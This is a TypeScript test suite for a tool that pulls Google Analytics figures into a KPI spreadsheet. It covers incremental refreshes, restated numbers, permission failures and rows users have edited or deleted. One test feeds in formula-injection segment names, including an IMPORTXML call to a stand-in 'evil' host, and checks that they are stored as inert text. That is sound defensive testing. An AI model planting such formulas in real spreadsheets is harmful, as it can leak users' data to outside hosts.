import { beforeEach, describe, expect, it } from 'vitest';
import { runSchedule } from '../../../src/app/schedule/run-schedule.ts';
import { dayOf } from '../../../src/plan/calendar/day.ts';
import { ok, problem, unforeseen } from '../../kit/desk/answers.ts';
import { typeAt, valueAt } from '../../kit/desk/blocks.ts';
import {
  covered,
  dataRows,
  day,
  dayLines,
  fedDesk,
  fedPlan,
  feed,
  hour,
  logLines,
  refreshed,
} from '../../kit/desk/fed-desk.ts';
import { error, euro, scriptedGa4, shop, usual } from '../../kit/desk/scripted-ga4.ts';

const first = dayOf(2027, 1, 1);
const yesterday = dayOf(2027, 2, 13);
const segments = ['Organic Search', 'Paid Social'];

beforeEach(() => {
  unforeseen.length = 0;
});

describe('a refresh', () => {
  it('brings every day that is over, told apart where that is asked for, and says how far it is', () => {
    const desk = fedDesk();
    const said = refreshed(desk);
    expect(said).toEqual(['Lan: Google Analytics · Shop VN đã có đến 13/02/2027.']);
    const rows = dataRows(desk.book);
    expect(rows).not.toContain(null);
    for (let on = first; on <= yesterday; on += 1) {
      const own = rows.filter((row) => row?.to === on);
      const leads = own.filter((row) => row?.input === 'LEADS');
      for (const segment of segments) {
        const counted = usual('keyEvents', on, segment);
        const found = leads.find((row) => row?.segment === segment)?.value;
        expect(found ?? 0).toBe(counted);
      }
      expect(own.find((row) => row?.input === 'TRAFFIC')?.value ?? 0).toBe(
        usual('sessions', on, ''),
      );
    }
    expect(Math.max(...rows.map((row) => row?.to ?? 0))).toBe(yesterday);
    expect(covered(desk.book, 'LEADS', 'from')).toBe(first);
    expect(covered(desk.book, 'LEADS', 'through')).toBe(yesterday);
    expect(covered(desk.book, 'LEADS', 'settled')).toBe(yesterday - 3);
    expect(covered(desk.book, 'TRAFFIC', 'updated')).toBeCloseTo(dayOf(2027, 2, 14) + 5 / 24, 6);
    expect(unforeseen).toEqual([]);
  });

  it('asks the next day only for days that may have changed, in as many calls as any other', () => {
    const desk = fedDesk();
    refreshed(desk);
    const calls = (days: number) => {
      desk.outside.now += days * day;
      desk.outside.sent.length = 0;
      desk.book.calls.length = 0;
      ok(desk.panel.refresh({ plan: 'abc123', anew: false }));
      return desk.book.calls.length;
    };
    const one = calls(1);
    expect(JSON.stringify(desk.outside.sent)).toContain('"startDate":"2027-02-11"');
    expect(desk.outside.sent).toHaveLength(1);
    // Rows are inserted, deleted, or just as many as before.
    for (const days of [1, 20]) expect(Math.abs(calls(days) - one)).toBeLessThanOrEqual(1);
    expect(dataRows(desk.book)).not.toContain(null);
  });

  it('ends where a refresh of the whole quarter ends, whatever happened between', () => {
    const desk = fedDesk();
    refreshed(desk);
    for (const days of [1, 3, 9]) {
      desk.outside.now += days * day;
      refreshed(desk);
    }
    const late = fedDesk();
    late.outside.now = desk.outside.now;
    refreshed(late);
    const plain = (book: typeof desk.book) =>
      dataRows(book).map((row) => ({ ...row, freshness: '' }));
    expect(plain(desk.book)).toEqual(plain(late.book));
  });

  it('has one reading of people for each week, and asks for the open one again entire', () => {
    const desk = fedDesk();
    const people = () =>
      dataRows(desk.book)
        .filter((row) => row?.input === 'VISITORS')
        .map((row) => [row?.from, row?.to]);
    refreshed(desk);
    // 14 February is a Sunday: its week, begun on the 8th, is still open.
    expect(people().slice(-2)).toEqual([
      [yesterday - 12, yesterday - 6],
      [yesterday - 5, yesterday],
    ]);
    desk.outside.now += 2 * day;
    refreshed(desk);
    expect(people().slice(-2)).toEqual([
      [yesterday - 5, yesterday + 1],
      [yesterday + 2, yesterday + 2],
    ]);
    expect(new Set(people().map(([from]) => from)).size).toBe(people().length);
    expect(logLines(desk.book).filter((line) => line.includes('đã báo'))).toEqual([]);
  });

  it('says in the log what was reported and is another number now, and lets go of what was taken back', () => {
    const desk = fedDesk();
    refreshed(desk);
    const restated = (metric: string, on: number, segment: string) =>
      metric === 'sessions' && on === yesterday
        ? 431
        : metric === 'keyEvents' && on === yesterday - 1
          ? 0
          : usual(metric, on, segment);
    desk.outside.answer = scriptedGa4({ counts: restated });
    desk.outside.now += hour;
    refreshed(desk);
    const before = usual('sessions', yesterday, '');
    expect(logLines(desk.book)).toContainEqual(
      expect.stringContaining(`13/02/2027: đã báo ${before}, nay 431 | ${before} | 431`),
    );
    expect(
      dataRows(desk.book).filter((row) => row?.input === 'LEADS' && row.to === yesterday - 1),
    ).toEqual([]);
    const lines = logLines(desk.book).length;
    desk.outside.now += hour;
    refreshed(desk);
    expect(logLines(desk.book)).toHaveLength(lines);
  });

  it('writes names from outside as texts, and the largest segments into the block of the split', () => {
    const desk = fedDesk();
    const nasty = ['=IMPORTXML("http://evil","//a")', '@SUM(A1)', '2026-01-02'];
    desk.outside.answer = scriptedGa4({ segments: nasty });
    refreshed(desk);
    const names = [1, 2, 3].map((at) => {
      const area = desk.book.named.get('KPI_abc123_split');
      if (!area) throw new Error('No split.');
      return Array.from({ length: area.rows }, (_, down) => down).flatMap((down) =>
        desk.book.peek(area.sheet, area.row + down, 2) === `s${at}`
          ? [desk.book.peek(area.sheet, area.row + down, 1)]
          : [],
      )[0];
    });
    expect([...names].sort()).toEqual([...nasty].sort());
    const days = desk.book.named.get('KPI_days_abc123');
    const texts = desk.book.tabs.find(({ id }) => id === days?.sheet)?.texts.size ?? 0;
    expect(dayLines(desk.book).filter(({ segment }) => segment.startsWith('='))).toHaveLength(1);
    expect(texts).toBe(1);
  });

  it('keeps what it has when a property cannot be asked, says why once, and heals', () => {
    const desk = fedDesk();
    refreshed(desk);
    const rows = dataRows(desk.book);
    const fails = () =>
      error(403, 'PERMISSION_DENIED', 'User does not have sufficient permissions');
    desk.outside.answer = scriptedGa4({ fails });
    desk.outside.now += day;
    expect(refreshed(desk).join()).toContain('chưa có quyền xem');
    desk.outside.now += day;
    refreshed(desk);
    expect(dataRows(desk.book)).toEqual(rows);
    const told = logLines(desk.book).filter((line) => line.includes('chưa có quyền'));
    expect(told).toHaveLength(1);
    const [plan] = ok(desk.panel.dataStart()).plans;
    expect(plan?.feeds[0]?.trouble).toContain('Lỗi từ 05:00 ngày 15/02.');
    expect(plan?.stale).toBe(true);
    desk.outside.answer = scriptedGa4({});
    desk.outside.now += hour;
    expect(refreshed(desk).join()).toContain('đã có đến 15/02/2027');
    expect(logLines(desk.book).some((line) => line.includes('đã hoạt động lại'))).toBe(true);
    expect(ok(desk.panel.dataStart()).plans[0]).toMatchObject({ stale: false });
  });

  it('leaves blank what the user may not see, and brings the rest', () => {
    const desk = fedDesk();
    desk.outside.answer = scriptedGa4({
      metadata: {
        schemaRestrictionResponse: {
          activeMetricRestrictions: [
            { metricName: 'sessions', restrictedMetricTypes: ['COST_DATA'] },
          ],
        },
      },
    });
    expect(refreshed(desk).join()).toContain('không được xem “sessions”');
    expect(covered(desk.book, 'TRAFFIC', 'through')).toBe('');
    expect(covered(desk.book, 'LEADS', 'through')).toBe(yesterday);
  });

  it('brings one property though the other fails, each as far as it is', () => {
    const plan = fedPlan({
      feeds: [feed('LEADS'), feed('TRAFFIC', { metric: 'sessions', account: euro.id })],
      accounts: [shop, euro],
    });
    const desk = fedDesk(plan);
    desk.outside.answer = scriptedGa4({
      fails: ({ url }) => (url.includes(euro.id) ? error(404, 'NOT_FOUND', 'gone') : null),
    });
    refreshed(desk);
    expect(covered(desk.book, 'LEADS', 'through')).toBe(yesterday);
    expect(covered(desk.book, 'TRAFFIC', 'through')).toBe('');
    const [standing] = ok(desk.panel.dataStart()).plans;
    expect(standing?.feeds.map(({ trouble }) => trouble === '')).toEqual([true, false]);
  });

  it('leaves a closed quarter and a busy spreadsheet alone', () => {
    const desk = fedDesk();
    desk.host.busy = true;
    expect(problem(desk.panel.refresh({ plan: 'abc123', anew: false }))).toContain(
      'Đang có người khác',
    );
    desk.host.busy = false;
    desk.book.day = dayOf(2027, 4, 5);
    ok(desk.panel.closePlan('abc123'));
    desk.outside.sent.length = 0;
    expect(problem(desk.panel.refresh({ plan: 'abc123', anew: false }))).toContain('đã chốt quý');
    expect(desk.outside.sent).toEqual([]);
  });

  it('puts right what somebody sorted, wrote or deleted among its rows', () => {
    const desk = fedDesk();
    refreshed(desk);
    const clean = dataRows(desk.book);
    const area = desk.book.named.get('KPI_data_abc123');
    if (!area) throw new Error('No data.');
    desk.book.type(area.sheet, area.row + 3, 1, 'mine');
    desk.book.deleteRows(area.sheet, area.row + 5, 2);
    refreshed(desk, 'abc123', true);
    expect(dataRows(desk.book)).toEqual(clean);
    desk.book.deleteRows(area.sheet, area.row + 5, 2);
    desk.outside.now += hour;
    refreshed(desk);
    expect(dataRows(desk.book).map((row) => ({ ...row, freshness: '' }))).toEqual(
      clean.map((row) => ({ ...row, freshness: '' })),
    );
    expect(logLines(desk.book).some((line) => line.includes('ai đó ghi trong trang dữ liệu'))).toBe(
      true,
    );
  });

  it('is told where somebody typed over how far an input came, and writes it again', () => {
    const desk = fedDesk();
    refreshed(desk);
    const days = () =>
      ['from', 'through', 'settled', 'seal'].map((column) => covered(desk.book, 'LEADS', column));
    const before = days();
    const statuses = () => ok(desk.panel.dataStart()).plans[0]?.feeds ?? [];
    expect(statuses().map(({ typedOver }) => typedOver)).toEqual([false, false, false]);
    typeAt(desk.book, 'abc123', ['feeds', 'LEADS', 'through'], dayOf(2027, 3, 31));
    const [leads, traffic] = statuses();
    expect(leads).toMatchObject({ typedOver: true, from: '', through: '', provisional: 0 });
    expect(traffic).toMatchObject({ typedOver: false, through: '13/02/2027' });
    refreshed(desk);
    expect(days()).toEqual(before);
    expect(statuses()[0]).toMatchObject({ typedOver: false, through: '13/02/2027' });
    // Of a later day as well, what was typed is not taken for what was reported before.
    typeAt(desk.book, 'abc123', ['feeds', 'LEADS', 'from'], dayOf(2027, 2, 1));
    desk.outside.now += day;
    desk.book.day += 1;
    refreshed(desk);
    expect(days()).toEqual([
      before[0],
      Number(before[1]) + 1,
      Number(before[2]) + 1,
      expect.any(Number),
    ]);
    expect(statuses()[0]).toMatchObject({ typedOver: false, from: '01/01/2027' });
  });

  it('by the clock looks at no sheet but its own, however many there are', () => {
    const desk = fedDesk();
    refreshed(desk);
    ok(desk.panel.setSchedule({ every: 'day', hour: 6, weekday: 1, mail: false }));
    desk.outside.now += day;
    desk.book.day += 1;
    desk.book.calls.length = 0;
    runSchedule(desk.parts);
    expect(covered(desk.book, 'LEADS', 'through')).toBe(yesterday + 1);
    expect(desk.book.calls.filter((call) => call === 'sheets' || call === 'names')).toEqual([]);
  });

  it('builds the data sheet anew when somebody has deleted it', () => {
    const desk = fedDesk();
    refreshed(desk);
    const clean = dataRows(desk.book);
    desk.book.dropTab(desk.book.named.get('KPI_data_abc123')?.sheet ?? 0);
    desk.outside.now += hour;
    refreshed(desk);
    expect(dataRows(desk.book)).toHaveLength(clean.length);
    expect(covered(desk.book, 'LEADS', 'through')).toBe(yesterday);
    expect(unforeseen).toEqual([]);
  });

  it('leaves then what somebody typed over a formula, and says that it is no formula', () => {
    const desk = fedDesk();
    refreshed(desk);
    const formula = valueAt(desk.book, 'abc123', 'score', 'TRAFFIC', 'actual');
    expect(String(formula)).toMatch(/^=/);
    typeAt(desk.book, 'abc123', ['score', 'LEADS', 'actual'], 5123);
    desk.book.dropTab(desk.book.named.get('KPI_data_abc123')?.sheet ?? 0);
    desk.outside.now += hour;
    const said = refreshed(desk);
    expect(valueAt(desk.book, 'abc123', 'score', 'LEADS', 'actual')).toBe(5123);
    expect(valueAt(desk.book, 'abc123', 'score', 'TRAFFIC', 'actual')).toBe(formula);
    expect(said.join(' ')).toContain('Thực đạt');
  });
});
